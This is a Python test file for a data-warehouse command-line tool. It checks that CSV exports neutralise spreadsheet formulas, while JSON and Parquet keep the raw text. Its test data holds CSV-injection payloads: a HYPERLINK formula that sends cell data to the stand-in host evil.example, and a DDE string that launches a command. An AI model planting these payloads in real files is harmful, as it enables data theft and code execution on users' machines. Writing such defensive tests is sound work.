"""CSV the tool writes cannot run formulas in a spreadsheet; JSON and Parquet keep the raw text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import polars as pl

from conftest import EXPORTS, cchc, cchc_ingest

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1;"Xem")'


def hostile_export(tmp_path: Path) -> Path:
    """The committed semicolon export; one row's agency and procedure are named by formulas."""
    text = (EXPORTS / "dossiers_semicolon_bom.csv").read_text("utf-8-sig")
    lines = text.splitlines()
    header = lines[0].split(";")
    first = lines[1].split(";")
    first[header.index("Cơ quan giải quyết")] = f'"{HOSTILE.replace(chr(34), chr(34) * 2)}"'
    first[header.index("Tên TTHC")] = "@SUM(1+1)*cmd|' /C calc'!A0"
    first[header.index("Mã cơ quan")] = "H37.99"  # its own agency and procedure, named once
    first[header.index("Mã TTHC")] = "9.999999"
    lines[1] = ";".join(first)
    path = tmp_path / "hostile.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_formulas_from_an_export_are_neutralised_in_csv_only(
    warehouse: Path, tmp_path: Path
) -> None:
    code, output = cchc_ingest(warehouse, str(hostile_export(tmp_path)))
    assert code == 0, output
    query = (
        "SELECT DISTINCT a.agency_name, p.procedure_name FROM core.fact_dossier f "
        "JOIN core.dim_agency a USING (agency_key) JOIN core.dim_procedure p USING "
        "(procedure_key) WHERE a.agency_name LIKE '=%'"
    )
    code, output = cchc("sql", query, "--format", "csv", "--warehouse", str(warehouse))
    assert code == 0, output
    rows = list(csv.reader(io.StringIO(output)))
    assert rows == [
        ["agency_name", "procedure_name"],
        ["'" + HOSTILE, "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ]
    out = tmp_path / "answer.csv"  # --out writes the same neutralised text
    code, _ = cchc(
        "sql", query, "--format", "csv", "--out", str(out), "--warehouse", str(warehouse)
    )
    assert code == 0 and out.read_text("utf-8") == output

    code, output = cchc("sql", query, "--format", "json", "--warehouse", str(warehouse))
    assert json.loads(output) == [
        {"agency_name": HOSTILE, "procedure_name": "@SUM(1+1)*cmd|' /C calc'!A0"}
    ]
    code, output = cchc("export", "--out", str(tmp_path / "pq"), "--warehouse", str(warehouse))
    assert code == 0, output
    agencies = pl.read_parquet(tmp_path / "pq" / "core.dim_agency.parquet")
    assert HOSTILE in agencies["agency_name"].to_list()


def test_every_formula_start_is_neutralised_and_numbers_are_not(loaded: Path) -> None:
    query = """
        SELECT * FROM (VALUES
            (1, '=1+2', -1.5::DOUBLE, '-1.5', 'plain', DATE '2024-01-02'),
            (2, '+33 1 23', -2.0, '@user', 'a=b', NULL),
            (3, chr(9) || 'tab', 0.5, chr(13) || 'cr', NULL, NULL),
            (4, ' =spaced', -7.0, 'Sở Tư pháp', '''quoted', NULL)
        ) AS t(n, a, x, b, c, d) ORDER BY n
    """
    code, output = cchc("sql", query, "--format", "csv", "--warehouse", str(loaded))
    assert code == 0, output
    rows = list(csv.reader(io.StringIO(output)))
    assert rows == [
        ["n", "a", "x", "b", "c", "d"],
        ["1", "'=1+2", "-1.5", "'-1.5", "plain", "2024-01-02"],
        ["2", "'+33 1 23", "-2.0", "'@user", "a=b", ""],
        ["3", "'\ttab", "0.5", "'\rcr", "", ""],
        ["4", " =spaced", "-7.0", "Sở Tư pháp", "'quoted", ""],
    ]
    code, output = cchc("sql", query, "--format", "json", "--warehouse", str(loaded))
    raw = json.loads(output)
    assert [r["a"] for r in raw] == ["=1+2", "+33 1 23", "\ttab", " =spaced"]
    assert [r["x"] for r in raw] == [-1.5, -2.0, 0.5, -7.0]
